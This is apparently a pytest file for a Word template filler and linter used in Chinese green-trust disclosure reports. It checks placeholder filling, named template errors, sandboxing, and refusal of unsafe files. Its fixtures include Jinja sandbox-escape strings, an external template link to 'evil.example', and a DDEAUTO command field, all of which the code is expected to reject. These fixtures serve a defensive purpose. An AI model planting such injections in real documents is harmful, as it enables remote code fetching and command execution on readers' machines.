"""Word templates: filled with the same figures, and every slip named with its place."""

import io

import docx
import pytest

from config.kernel.findings import Finding
from reporting.rendering import child, template_lint, word_template
from reporting.rendering.word_template import NAMES, TemplateRefused
from tests.reporting.rendering import samples, word_files
from tests.reporting.rendering.word_files import FIGURES, altered, split_over_runs, template


def text_of(data: bytes) -> str:
    read = docx.Document(io.BytesIO(data))
    cells = [cell.text for table in read.tables for row in table.rows for cell in row.cells]
    heads = [each.text for each in read.sections[0].header.paragraphs]
    return "\n".join([*(each.text for each in read.paragraphs), *cells, *heads])


def found(data: bytes) -> list[Finding]:
    return template_lint.lint(data, samples.document(), FIGURES)


def codes(data: bytes) -> list[str]:
    return [each.code for each in found(data)]


def test_a_template_is_filled_with_the_figures_the_tables_and_the_pictures() -> None:
    made = word_template.fill(template(), samples.document(), FIGURES).content
    text = text_of(made)
    for words in (
        "江南绿色信托有限责任公司：2025 年度绿色信托信息披露报告",
        "本期避免排放 186,412\u00a0tCO₂e，编号 F-3f2a9c1d。",
        "屋顶光伏 & 储能 为 1,500\u00a0tCO₂e",
        "核能供汽 为 2,500\u00a0tCO₂e",
        "样本数据",
        "1 环境效益；1.1 分项结果；",
        "第2电站\n−3,000",
        "GT-2025-001",
    ):
        assert words in text, words
    assert "{" not in text
    read = docx.Document(io.BytesIO(made))
    assert [shape._inline.docPr.get("descr") for shape in read.inline_shapes] == [
        samples.charts("zh-Hans")[0].alt
    ]


def test_the_same_input_gives_the_same_bytes() -> None:
    data = template()
    once, again = (word_template.fill(data, samples.document(), FIGURES) for _ in range(2))
    assert once.content == again.content


def test_a_good_template_has_no_finding_and_says_what_it_uses() -> None:
    data = template()
    assert found(data) == []
    assert template_lint.names_used(data) == [
        "chart", "figure", "figures", "identifier", "organization", "sample_notice", "sections",
        "table", "title",
    ]  # fmt: skip


def test_a_tag_that_word_split_over_runs_is_filled() -> None:
    data = split_over_runs()
    assert found(data) == []
    assert "数值：186,412\u00a0tCO₂e" in text_of(
        word_template.fill(data, samples.document(), FIGURES).content
    )


@pytest.mark.parametrize(
    ("paragraphs", "code", "row", "words"),
    [
        (("好。", "{{ title }"), "tag_not_closed", 2, "{{ title }"),
        (("{{ title", "}} 后"), "tag_not_closed", 1, "{{ title"),
        (("title }} 后",), "tag_not_opened", 1, "title }}"),
        (("{ title } 后",), "single_braces", 1, "{ title }"),
        (("{% fro x in index %}",), "unknown_tag", 1, "{% fro x in index %}"),
        (("{% include 'x' %}",), "unknown_tag", 1, "{% include 'x' %}"),
        (("{%p for x in index %}", "{{ x.id }}"), "not_ended", 1, "{%p for x in index %}"),
        (("甲{% endif %}",), "end_without_beginning", 1, "{% endif %}"),
        (("{{ title title }}",), "not_readable", 1, "{{ title title }}"),
        (("甲", "乙 {{ tilte }}"), "unknown_name", 2, "{{ tilte }}"),
        (("{{ title }}{{ Figures['x'] }}",), "unknown_name", 1, "{{ Figures['x'] }}"),
    ],
)
def test_a_slip_is_named_with_its_place(
    paragraphs: tuple[str, ...], code: str, row: int, words: str
) -> None:
    first = found(template(paragraphs, table=False))[0]
    assert (first.code, first.field, first.row, first.value) == (code, "document", row, words)
    assert first.remedy


def test_a_misspelled_name_gets_the_nearest_one() -> None:
    (only,) = found(template(("{{ tilte }}",)))
    assert only.facts["near"] == "title"


def test_a_slip_in_the_running_head_is_found_there() -> None:
    (only,) = found(template(header="{{ identifier }"))
    assert (only.code, only.field) == ("tag_not_closed", "header1")


@pytest.mark.parametrize(
    ("tag", "words"),
    [
        ("{{ figure('GT-AV-1') }}", "Nearest: GT-AV-01"),
        ("{{ figure('GT-AV-02') }}", "GT-AV-02 is there along: project"),
        ("{{ figures('GT-AV-01', 'class') }}", "There is no figure GT-AV-01 (class=*)"),
        ("{{ table(9).caption }}", "There is no 9; there are 1"),
        ("{{ table(1).captoin }}", "captoin"),
        ("{{ figure('GT-AV-01').worth }}", "worth"),
        ("{{ chart('没有') }}", "there are 3"),
        ("{{ title.__class__.__mro__ }}", "unsafe"),
        ("{{ ''.__class__ }}", "unsafe"),
        ("{{ figure.__globals__ }}", "unsafe"),
        ("{{ index.append(1) }}", "unsafe"),
        ("{{ 1 / 0 }}", "ZeroDivisionError"),
        ("{{ title + 1 }}", "TypeError"),
    ],
)
def test_what_cannot_be_filled_is_refused_by_name(tag: str, words: str) -> None:
    (only,) = found(template((tag,)))
    assert only.code == "not_filled"
    assert words in str(only.facts["why"])
    with pytest.raises(TemplateRefused):
        word_template.fill(template((tag,)), samples.document(), FIGURES)


def test_a_figure_that_is_named_must_stand_in_the_result() -> None:
    data = template(("甲{% set x = figure('GT-AV-01') %}",), table=False)
    assert codes(data) == ["figure_lost"]


def test_words_that_would_be_lost_are_named() -> None:
    paragraphs = ("{%p if title %}", "甲", "这一行会丢{%p endif %}", "乙")
    data = template(paragraphs, table=False)
    assert "这一行会丢" not in text_of(
        word_template.fill(data, samples.document(), FIGURES).content
    )
    (only,) = found(data)
    assert (only.code, only.row, only.value) == ("words_lost", 3, "这一行会丢")


def test_a_template_that_leaves_nothing_is_refused() -> None:
    data = template(("{% if not title %}甲{% endif %}",), table=False, header="")
    assert codes(data) == ["nothing_left"]


def test_values_are_never_markup() -> None:
    made = word_template.fill(
        template(("{{ title }}",)), samples.document(title="<w:p>&{{ x }}\x01 报告"), FIGURES
    )
    assert "<w:p>&{{ x }}〔U+0001〕 报告" in text_of(made.content)


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"no zip", "not_a_word_file"),
        (samples.document().to_json(), "not_a_word_file"),
        (altered(template(), "word/vbaProject.bin", b"x"), "holds_macros"),
        (
            altered(
                template(),
                "word/document.xml",
                lambda xml: xml.replace(b"<w:document", b"<!DOCTYPE x []><w:document", 1),
            ),
            "unsafe_xml",
        ),
        (
            altered(
                template(),
                "word/_rels/document.xml.rels",
                lambda xml: xml.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rX" Type="http://x/attachedTemplate" '
                    b'Target="https://evil.example/t.dotm" TargetMode="External"/>'
                    b"</Relationships>",
                ),
            ),
            "reaches_out",
        ),
        (
            altered(
                template(),
                "word/document.xml",
                lambda xml: xml.replace(
                    b"<w:body>",
                    b"<w:body><w:p><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>",
                ),
            ),
            "reaches_out",
        ),
    ],
)
def test_a_file_that_is_no_plain_document_is_refused(data: bytes, code: str) -> None:
    assert codes(data)[0] == code


def test_the_child_lints_and_fills_alike() -> None:
    data, document = template(), samples.document()
    assert child.lint_template(document, data, FIGURES) == []
    wrong = template(("{{ tilte }}",))
    assert child.lint_template(document, wrong, FIGURES) == found(wrong)
    expected = word_template.fill(data, document, FIGURES).content
    assert child.fill_template(document, data, FIGURES) == expected
    with pytest.raises(child.RenderingFailed, match="There is no figure GT-AV-99"):
        child.fill_template(document, template(("{{ figure('GT-AV-99') }}",)), FIGURES)


def test_a_template_that_does_not_end_is_ended() -> None:
    endless = template(
        ("{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",)
    )
    with pytest.raises(child.RenderingFailed, match="longer than 3 seconds"):
        child.lint_template(samples.document(), endless, FIGURES, seconds=3)


def test_every_name_is_explained() -> None:
    assert all(NAMES.values())
    assert set(word_files.GOOD[0].split("{{ ")[1].split()) & set(NAMES)
